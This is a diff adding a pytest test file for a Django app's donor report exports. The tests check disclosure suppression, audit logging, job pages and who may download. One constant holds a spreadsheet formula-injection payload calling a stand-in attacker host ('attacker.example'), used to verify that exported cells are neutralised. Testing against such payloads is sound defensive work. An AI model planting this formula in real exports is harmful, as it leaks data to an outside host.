@@ -1,0 +1,270 @@
+"""Donor report exports: contents, suppression, formula neutralising, jobs and who may download."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import date, timedelta
+
+import pytest
+from auditlog.models import LogEntry
+from django.contrib.auth.models import Group, Permission
+from django.urls import reverse
+from django.utils import timezone
+from openpyxl import load_workbook
+
+from casework.models import Department, Person
+from casework.roles import PROGRAMME_MANAGER
+from casework.tests.factories import UserFactory
+from config.celery import app as celery_app
+from reporting import exports
+from reporting.disclosure import disclosure_apply
+from reporting.exports import CSV_COLUMNS, SUPPRESSED_MARK, neutralise
+from reporting.indicators import ALL, INDICATORS, report_compute
+from reporting.periods import fiscal_year
+from reporting.synthetic import synthetic_generate
+
+pytestmark = pytest.mark.urls("reporting.tests.export_urls_for_tests")
+
+PERIOD = "FY2025"
+EVIL = '=HYPERLINK("http://attacker.example/?leak","Click")'
+K = 10
+
+
+@pytest.fixture(autouse=True)
+def media(settings, tmp_path):
+    settings.MEDIA_ROOT = tmp_path
+    settings.REPORTING_DISCLOSURE_K = K
+    return tmp_path
+
+
+@pytest.fixture
+def eager():
+    """Tasks run in the request, as in the embedded default, even when CI sets a broker."""
+    conf = celery_app.conf
+    saved = (conf.task_always_eager, conf.task_eager_propagates)
+    conf.task_always_eager = conf.task_eager_propagates = True
+    yield
+    conf.task_always_eager, conf.task_eager_propagates = saved
+
+
+@pytest.fixture
+def dataset(db):
+    """Synthetic returns over FY2025, one department of origin renamed to a formula."""
+    synthetic_generate(persons=400, seed=11, today=date(2025, 12, 1))
+    department_id = (
+        Person.objects.filter(origin_department__isnull=False)
+        .values_list("origin_department", flat=True)
+        .first()
+    )
+    Department.objects.filter(pk=department_id).update(name=EVIL)
+    return department_id
+
+
+@pytest.fixture
+def donor(db):
+    user = UserFactory(username="donor_export")
+    user.user_permissions.add(Permission.objects.get(codename="view_aggregates"))
+    return user
+
+
+@pytest.fixture
+def other_donor(db):
+    user = UserFactory(username="donor_other")
+    user.user_permissions.add(Permission.objects.get(codename="view_aggregates"))
+    return user
+
+
+@pytest.fixture
+def manager(center_a):
+    user = UserFactory(username="manager_export")
+    user.groups.add(Group.objects.get(name=PROGRAMME_MANAGER))
+    from guardian.shortcuts import assign_perm
+
+    assign_perm("casework.view_center_records", user, center_a)
+    return user
+
+
+def _build(user, kind: str) -> exports.ExportJob:
+    job = exports.export_job_create(actor=user, kind=kind, period=PERIOD)
+    return exports.export_job_run(job_id=job.id)
+
+
+# --- contents -----------------------------------------------------------------------------------
+
+
+def test_neutralise_prefixes_formula_starts_only():
+    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
+        assert neutralise(text) == "'" + text
+    assert neutralise("Huehuetenango") == "Huehuetenango"
+    assert neutralise(-5) == -5
+    assert neutralise("0-4") == "0-4"
+
+
+def test_xlsx_has_a_sheet_per_indicator_and_notes(db, dataset, donor):
+    job = _build(donor, exports.XLSX)
+    assert job.state == exports.DONE and job.progress == 100
+    workbook = load_workbook(job.file_path, read_only=True)
+    assert set(INDICATORS) <= set(workbook.sheetnames)
+    notes_name = workbook.sheetnames[-1]
+    notes = [c for row in workbook[notes_name].iter_rows(values_only=True) for c in row if c]
+    text = " ".join(str(c) for c in notes)
+    assert "FY2025" in text and f"k = {K}" in text
+    for code in INDICATORS:
+        assert code in notes
+    received = [list(r) for r in workbook["received"].iter_rows(values_only=True)]
+    raw = report_compute(indicator="received", period=fiscal_year(2025))
+    assert raw.total >= K
+    assert ["Total", raw.total] == received[3][:2]  # the headline, under name, definition, period
+
+
+def test_xlsx_never_shows_a_withheld_count(db, dataset, donor):
+    job = _build(donor, exports.XLSX)
+    workbook = load_workbook(job.file_path, read_only=True)
+    marks = 0
+    for code in INDICATORS:
+        for row in workbook[code].iter_rows(values_only=True):
+            for value in row[1:3]:
+                if isinstance(value, int) and not isinstance(value, bool):
+                    assert value == 0 or value >= K, (code, row)
+                marks += value == SUPPRESSED_MARK
+    assert marks > 0  # 400 persons over 20-odd departments: some cells are withheld
+    # The withheld cells are exactly those disclosure control withholds.
+    table = disclosure_apply(
+        report_compute(indicator="received", period=fiscal_year(2025), dims=("department",)), k=K
+    )
+    shown = {r[0]: r[1] for r in workbook["received"].iter_rows(values_only=True) if len(r) > 1}
+    for row in table.rows:
+        if table.cells[(row, ALL)] is None:
+            assert SUPPRESSED_MARK in shown.values()
+
+
+def test_formula_in_a_name_is_neutralised_in_xlsx_and_csv(db, dataset, donor):
+    job = _build(donor, exports.XLSX)
+    workbook = load_workbook(job.file_path)  # not read-only: formulas would show as such
+    labels = [c.value for ws in workbook for row in ws.iter_rows() for c in row if c.value]
+    assert "'" + EVIL in labels
+    assert EVIL not in labels
+    assert not any(c.data_type == "f" for ws in workbook for row in ws.iter_rows() for c in row)
+
+    job = _build(donor, exports.CSV)
+    rows = list(csv.reader(io.StringIO(job.file_path.read_text(encoding="utf-8"))))
+    values = [v for row in rows for v in row]
+    assert "'" + EVIL in values and EVIL not in values
+
+
+def test_csv_has_the_hxl_hashtag_row_and_only_safe_counts(db, dataset, donor):
+    job = _build(donor, exports.CSV)
+    rows = list(csv.reader(io.StringIO(job.file_path.read_text(encoding="utf-8"))))
+    assert rows[0] == [name for name, _tag in CSV_COLUMNS]
+    assert rows[1] == [tag for _name, tag in CSV_COLUMNS]
+    assert "#adm1+code" in rows[1] and "#date+start" in rows[1]
+    body = [dict(zip(rows[0], r, strict=True)) for r in rows[2:]]
+    assert {r["indicator"] for r in body} == set(INDICATORS)
+    for r in body:
+        if r["value"]:
+            assert int(r["value"]) == 0 or int(r["value"]) >= K
+        else:
+            assert r["suppressed"] == "yes"
+        assert r["period_start"] == "2024-10-01" and r["period_end"] == "2025-09-30"
+    assert any(r["suppressed"] == "yes" for r in body)
+
+
+def test_a_programme_manager_exports_only_their_centres(db, manager, center_a):
+    job = exports.export_job_create(actor=manager, kind=exports.CSV, period=PERIOD)
+    assert job.center_ids == [center_a.pk]
+
+
+def test_every_export_is_audited(db, donor):
+    job = exports.export_job_create(actor=donor, kind=exports.XLSX, period=PERIOD)
+    entry = LogEntry.objects.get(actor=donor, action=LogEntry.Action.ACCESS)
+    assert entry.changes == {"export": ["xlsx", "FY2025"]}
+    assert entry.additional_data["job"] == job.id
+
+
+# --- pages --------------------------------------------------------------------------------------
+
+
+def test_start_runs_the_export_in_process_without_a_broker(
+    db, client, donor, eager, django_capture_on_commit_callbacks
+):
+    client.force_login(donor)
+    assert client.get(reverse("reporting_exports:export_start")).status_code == 200
+    with django_capture_on_commit_callbacks(execute=True):
+        response = client.post(
+            reverse("reporting_exports:export_start"), {"period": PERIOD, "kind": "xlsx"}
+        )
+    assert response.status_code == 302
+    job_id = response.url.rstrip("/").rsplit("/", 1)[-1]
+    status = client.get(response.url)
+    assert status.status_code == 200
+    assert b"<progress" in status.content
+    assert b'http-equiv="refresh"' not in status.content  # finished: no more refreshing
+    download = client.get(reverse("reporting_exports:export_download", args=[job_id]))
+    assert download.status_code == 200
+    assert download["Content-Disposition"].startswith("attachment")
+    body = b"".join(download.streaming_content)
+    assert load_workbook(io.BytesIO(body), read_only=True).sheetnames
+    audited = [e.changes for e in LogEntry.objects.filter(actor=donor).order_by("pk")]
+    assert audited == [{"export": ["xlsx", PERIOD]}, {"export_download": ["xlsx", PERIOD]}]
+
+
+def test_pending_status_page_refreshes_without_javascript(db, client, donor):
+    job = exports.export_job_create(actor=donor, kind=exports.XLSX, period=PERIOD)
+    client.force_login(donor)
+    page = client.get(reverse("reporting_exports:export_status", args=[job.id]))
+    assert page.status_code == 200
+    html = page.content.decode()
+    assert 'http-equiv="refresh"' in html and 'hx-trigger="every 2s"' in html
+    assert '<progress max="100" value="0">' in html
+    assert reverse("reporting_exports:export_status", args=[job.id]) in html  # manual refresh
+    not_yet = client.get(reverse("reporting_exports:export_download", args=[job.id]))
+    assert not_yet.status_code == 404
+
+
+def test_a_bad_period_is_a_form_error(db, client, donor):
+    client.force_login(donor)
+    response = client.post(
+        reverse("reporting_exports:export_start"),
+        {"period": "2025-01-01..2025-01-02", "kind": "csv"},
+    )
+    assert response.status_code == 200
+    assert response.context["form"].errors["period"]
+
+
+def test_only_the_creator_sees_or_downloads_the_export(db, client, donor, other_donor, manager):
+    job = _build(donor, exports.CSV)
+    status_url = reverse("reporting_exports:export_status", args=[job.id])
+    download_url = reverse("reporting_exports:export_download", args=[job.id])
+    for outsider in (other_donor, manager):
+        client.force_login(outsider)
+        assert client.get(status_url).status_code == 404
+        assert client.get(download_url).status_code == 404
+    client.logout()
+    assert client.get(download_url).status_code == 302  # to the login page
+    client.force_login(donor)
+    assert client.get(download_url).status_code == 200
+
+
+def test_users_without_the_right_cannot_start_exports(db, client, caseworker):
+    client.force_login(caseworker)
+    response = client.post(
+        reverse("reporting_exports:export_start"), {"period": PERIOD, "kind": "csv"}
+    )
+    assert response.status_code == 403
+    assert not list(exports.exports_root().glob("*/status.json"))
+
+
+def test_an_expired_export_is_gone(db, client, donor, media):
+    job = _build(donor, exports.CSV)
+    job.expires_at = (timezone.now() - timedelta(minutes=1)).isoformat()
+    exports.export_job_save(job)
+    client.force_login(donor)
+    response = client.get(reverse("reporting_exports:export_download", args=[job.id]))
+    assert response.status_code == 404
+    assert "reporting/export_expired.html" in [t.name for t in response.templates]
+    assert client.get(reverse("reporting_exports:export_status", args=[job.id])).status_code == 404
+
+    fresh = exports.export_job_create(actor=donor, kind=exports.CSV, period=PERIOD)
+    assert exports.exports_purge_expired() == 1
+    assert not job.directory.exists() and fresh.directory.exists()
